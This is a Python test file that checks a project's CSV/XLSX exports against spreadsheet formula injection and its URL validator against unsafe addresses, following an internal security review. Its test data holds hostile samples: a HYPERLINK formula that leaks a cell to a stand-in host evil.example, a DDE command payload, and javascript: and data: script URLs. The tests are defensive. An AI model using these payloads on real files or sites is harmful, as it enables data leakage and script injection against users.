"""Exports and feed addresses (security review 2026-12-04, §2.3, §6.2): no cell of a CSV or XLSX export
is a live formula, and only http(s) addresses enter the database."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest

from gtec_core.exports import write_table
from gtec_core.tabular import spreadsheet_safe
from gtec_core.weburl import normalise, web_url_problem

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"Voir la formation")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_helper_neutralises_every_formula_prefix():
    for value in HOSTILE:
        assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe("Aide-soignant") == "Aide-soignant"
    assert spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(None) is None


def hostile_table() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "code_rome": ["J1301"] * len(HOSTILE),
            "formation_la_plus_proche": HOSTILE,
            "ecart": [-1.5] * len(HOSTILE),
        }
    )


def test_csv_export_cells_are_text():
    body = write_table(hostile_table(), "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    assert [r[1] for r in rows[1:]] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert {r[2] for r in rows[1:]} == {"-1,5"}  # numbers stay numbers


def test_xlsx_export_holds_no_formula():
    """Review §2.3: cell L5 of the gaps XLSX was `<f>HYPERLINK(…)</f>`."""
    body = write_table(hostile_table(), "xlsx", title="=titre", note="@note")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", s) for s in sheets)


def test_every_export_goes_through_the_one_writer():
    """CSV/XLSX are written in gtec_core/exports.py (and the survey workbook template) only."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer\(|Workbook\(\)|\.write_csv\(|\.write_excel\(")
    found = {
        str(p.relative_to(root))
        for d in (
            "gtec/www",
            "gtec/labour",
            "gtec/training",
            "gtec/surveys",
            "gtec/careers",
            "gtec/territories",
            "gtec_core/exports.py",
        )
        for p in ((root / d).rglob("*.py") if (root / d).is_dir() else [root / d])
        if writers.search(p.read_text(encoding="utf-8"))
    }
    assert found == {"gtec_core/exports.py"}


@pytest.mark.parametrize(
    "url, ok",
    [
        ("https://www.example.org/formation?id=1", True),
        ("http://example.org", True),
        ("", True),
        ("javascript:alert(document.domain)", False),
        ("JavaScript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox(1)", False),
        ("https://\u202egnp.exe\u202c", False),
        ("https://exa mple.org", False),
        ("https:///chemin", False),
        ("//evil.example", False),
    ],
)
def test_web_addresses(url, ok):
    assert (web_url_problem(url) is None) is ok


def test_schemeless_feed_address_reads_as_http():
    assert normalise("lyceedekerneuzec.fr") == "http://lyceedekerneuzec.fr"
    assert normalise("javascript:alert(1)") == "javascript:alert(1)"


LHEO_URL = """<?xml version="1.0" encoding="UTF-8"?><lheo xmlns="http://lheo.gouv.fr/2.3"><offres>
<formation numero="F-1"><intitule-formation>Cuisine</intitule-formation>{furl}
<action numero="A-1">{aurl}<session numero="S-1"><periode><debut>20260901</debut><fin>20270601</fin></periode></session></action>
<organisme-formation-responsable numero="O-1"><nom-organisme>Institut</nom-organisme></organisme-formation-responsable>
</formation></offres></lheo>"""


@pytest.mark.parametrize("where", ["furl", "aurl"])
def test_lheo_javascript_address_is_rejected_at_import(tmp_path, where):
    """Review §6.2: `javascript:alert(document.domain)` in `urlweb` was imported (course and action)."""
    from gtec_core.sources.lheo import LheoReader

    tag = "url-formation" if where == "furl" else "url-action"
    bad = f"<{tag}><urlweb>javascript:alert(document.domain)</urlweb></{tag}>"
    path = tmp_path / "f.xml"
    path.write_text(LHEO_URL.format(**{"furl": "", "aurl": "", where: bad}), encoding="utf-8")
    reader = LheoReader(path)
    found = list(reader)
    assert not any(
        f.url.startswith("javascript") or any(a.url.startswith("javascript") for a in f.actions)
        for f in found
    )
    # an action rejected leaves the formation without action: it is rejected too, with its own reason
    assert reader.problems.count == (1 if where == "furl" else 2)
    assert reader.problems.items[0].field == f"{tag}/urlweb"
    assert "http ou https" in reader.problems.items[0].message
